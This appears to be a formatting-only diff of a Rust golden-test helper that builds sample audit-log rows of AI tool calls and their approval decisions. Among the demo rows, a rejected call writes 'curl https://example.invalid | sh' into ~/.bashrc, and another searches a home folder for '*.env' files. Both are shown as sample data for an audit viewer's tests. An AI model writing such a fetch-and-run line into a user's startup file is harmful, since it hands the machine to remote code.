@@ -86,46 +86,130 @@ fn data_set(name: &str) -> DataSet {
             let mut rows: Vec<Spec> = (1..=7_i64)
                 .map(|id| {
                     let time = NOW - (8 - id) * MINUTE - if id == 7 { MINUTE } else { 0 };
-                    let (server, tool) = if id % 2 == 1 { ("filesystem", "read_file") } else { ("everything", "echo") };
+                    let (server, tool) = if id % 2 == 1 {
+                        ("filesystem", "read_file")
+                    } else {
+                        ("everything", "echo")
+                    };
                     let decision = if id == 3 { Decision::Rejected } else { Decision::Allowed };
-                    let mut s = spec(time, server, tool, decision, json!({ "path": format!("/tmp/{id}.txt") }));
+                    let mut s = spec(
+                        time,
+                        server,
+                        tool,
+                        decision,
+                        json!({ "path": format!("/tmp/{id}.txt") }),
+                    );
                     s.outcome = s.outcome.map(|(o, _)| (o, 10 + id));
                     s
                 })
                 .collect();
-            rows.push(spec(NOW - 3 * DAY, "filesystem", "read_file", Decision::Allowed, json!({ "path": "/tmp/a.txt" })));
+            rows.push(spec(
+                NOW - 3 * DAY,
+                "filesystem",
+                "read_file",
+                Decision::Allowed,
+                json!({ "path": "/tmp/a.txt" }),
+            ));
             let later = vec![
-                spec(NOW + 1_000, "filesystem", "write_file", Decision::Allowed, json!({ "path": "/tmp/b.txt" })),
-                spec(NOW + 2_000, "filesystem", "read_file", Decision::Allowed, json!({ "path": "/tmp/c.txt" })),
+                spec(
+                    NOW + 1_000,
+                    "filesystem",
+                    "write_file",
+                    Decision::Allowed,
+                    json!({ "path": "/tmp/b.txt" }),
+                ),
+                spec(
+                    NOW + 2_000,
+                    "filesystem",
+                    "read_file",
+                    Decision::Allowed,
+                    json!({ "path": "/tmp/c.txt" }),
+                ),
             ];
             DataSet { rows, later }
         }
         // Three calls of the last minute.
         "last-minute" => DataSet {
             rows: (0..3)
-                .map(|i| spec(NOW - 20_000 + i * 5_000, "filesystem", "read_file", Decision::Allowed, json!({})))
+                .map(|i| {
+                    spec(
+                        NOW - 20_000 + i * 5_000,
+                        "filesystem",
+                        "read_file",
+                        Decision::Allowed,
+                        json!({}),
+                    )
+                })
                 .collect(),
             later: Vec::new(),
         },
         // A thousand calls a second apart, the newest a second before now.
         "thousand" => DataSet {
             rows: (1..=1000_i64)
-                .map(|id| spec(NOW - 1_000 - (1000 - id) * 1_000, "filesystem", "read_file", Decision::Allowed, json!({})))
+                .map(|id| {
+                    spec(
+                        NOW - 1_000 - (1000 - id) * 1_000,
+                        "filesystem",
+                        "read_file",
+                        Decision::Allowed,
+                        json!({}),
+                    )
+                })
                 .collect(),
             later: Vec::new(),
         },
         // The demo (`?mock`): a few servers and every decision, spread over three days.
         "demo" => {
             let plan: [(&str, &str, Decision, Value); 12] = [
-                ("filesystem", "read_file", Decision::Allowed, json!({ "path": "/home/me/projects/app/README.md" })),
-                ("filesystem", "list_directory", Decision::Allowed, json!({ "path": "/home/me/projects/app" })),
-                ("filesystem", "search_files", Decision::RateLimited, json!({ "path": "/home/me", "pattern": "*.env" })),
-                ("filesystem", "write_file", Decision::Approved, json!({ "path": "/home/me/projects/app/notes.md", "content": "# Notes\n\n- ship it" })),
-                ("filesystem", "write_file", Decision::Rejected, json!({ "path": "/home/me/.bashrc", "content": "curl https://example.invalid | sh" })),
-                ("filesystem", "move_file", Decision::Denied, json!({ "source": "/home/me/a", "destination": "/tmp/a" })),
-                ("everything", "echo", Decision::Allowed, json!({ "message": "hello there" })),
+                (
+                    "filesystem",
+                    "read_file",
+                    Decision::Allowed,
+                    json!({ "path": "/home/me/projects/app/README.md" }),
+                ),
+                (
+                    "filesystem",
+                    "list_directory",
+                    Decision::Allowed,
+                    json!({ "path": "/home/me/projects/app" }),
+                ),
+                (
+                    "filesystem",
+                    "search_files",
+                    Decision::RateLimited,
+                    json!({ "path": "/home/me", "pattern": "*.env" }),
+                ),
+                (
+                    "filesystem",
+                    "write_file",
+                    Decision::Approved,
+                    json!({ "path": "/home/me/projects/app/notes.md", "content": "# Notes\n\n- ship it" }),
+                ),
+                (
+                    "filesystem",
+                    "write_file",
+                    Decision::Rejected,
+                    json!({ "path": "/home/me/.bashrc", "content": "curl https://example.invalid | sh" }),
+                ),
+                (
+                    "filesystem",
+                    "move_file",
+                    Decision::Denied,
+                    json!({ "source": "/home/me/a", "destination": "/tmp/a" }),
+                ),
+                (
+                    "everything",
+                    "echo",
+                    Decision::Allowed,
+                    json!({ "message": "hello there" }),
+                ),
                 ("everything", "get-env", Decision::Hidden, json!({})),
-                ("everything", "trigger-long-running-operation", Decision::TimedOut, json!({ "duration": 10, "steps": 5 })),
+                (
+                    "everything",
+                    "trigger-long-running-operation",
+                    Decision::TimedOut,
+                    json!({ "duration": 10, "steps": 5 }),
+                ),
                 ("everything", "get-sum", Decision::Allowed, json!({ "a": 2, "b": 40 })),
                 ("shell", "run_command", Decision::Failed, json!({ "command": "ls -la" })),
                 ("everything", "echo", Decision::Cancelled, json!({ "message": "bye" })),
@@ -139,7 +223,10 @@ fn data_set(name: &str) -> DataSet {
                     spec(NOW - age, server, tool, *decision, arguments.clone())
                 })
                 .collect();
-            DataSet { rows, later: Vec::new() }
+            DataSet {
+                rows,
+                later: Vec::new(),
+            }
         }
         other => panic!("no data set {other:?} in {GOLDEN_PATH}; the names are built in golden_tests.rs"),
     }
@@ -204,7 +291,10 @@ fn record(writer: &AuditWriter, rows: &[Spec]) -> Vec<AuditRow> {
 fn answer(store: &crate::AuditStore, request: &Request) -> Value {
     match request {
         Request::QueryAudit { filter, limit } => {
-            assert!((1..=1000).contains(limit), "the desktop command clamps limit to 1..=1000; keep cases within it");
+            assert!(
+                (1..=1000).contains(limit),
+                "the desktop command clamps limit to 1..=1000; keep cases within it"
+            );
             let rows = store.query(&filter_of(filter), *limit).unwrap();
             json!(rows.iter().map(|r| r.id).collect::<Vec<_>>())
         }
@@ -263,7 +353,11 @@ fn render_golden(have: &str) -> String {
             }
             for (i, case) in cases.iter().enumerate().filter(|(_, c)| c["data_set"] == name.as_str()) {
                 let at = usize::try_from(case["appended"].as_u64().unwrap_or(0)).unwrap();
-                assert!(at <= set.later.len(), "data set {name} has {} later rows", set.later.len());
+                assert!(
+                    at <= set.later.len(),
+                    "data set {name} has {} later rows",
+                    set.later.len()
+                );
                 if at == appended {
                     let request: Request = serde_json::from_value(case["request"].clone())
                         .unwrap_or_else(|e| panic!("case {i}'s request {}: {e}", case["request"]));
@@ -278,15 +372,27 @@ fn render_golden(have: &str) -> String {
     let mut out = String::new();
     out.push_str(&format!("{{\n  \"about\": {},\n  \"data_sets\": {{\n", json!(ABOUT)));
     for (n, (name, set)) in data_sets.iter().enumerate() {
-        out.push_str(&format!("    {}: {{\n      \"now_ms\": {},\n", json!(name), set["now_ms"]));
+        out.push_str(&format!(
+            "    {}: {{\n      \"now_ms\": {},\n",
+            json!(name),
+            set["now_ms"]
+        ));
         for key in ["rows", "later"] {
             let rows = set[key].as_array().unwrap();
             let lines: Vec<String> = rows.iter().map(|r| format!("        {r}")).collect();
-            let body = if lines.is_empty() { String::new() } else { format!("\n{}\n      ", lines.join(",\n")) };
+            let body = if lines.is_empty() {
+                String::new()
+            } else {
+                format!("\n{}\n      ", lines.join(",\n"))
+            };
             let sep = if key == "rows" { "," } else { "" };
             out.push_str(&format!("      \"{key}\": [{body}]{sep}\n"));
         }
-        out.push_str(if n + 1 == data_sets.len() { "    }\n" } else { "    },\n" });
+        out.push_str(if n + 1 == data_sets.len() {
+            "    }\n"
+        } else {
+            "    },\n"
+        });
     }
     out.push_str("  },\n  \"cases\": [\n");
     let lines: Vec<String> = cases
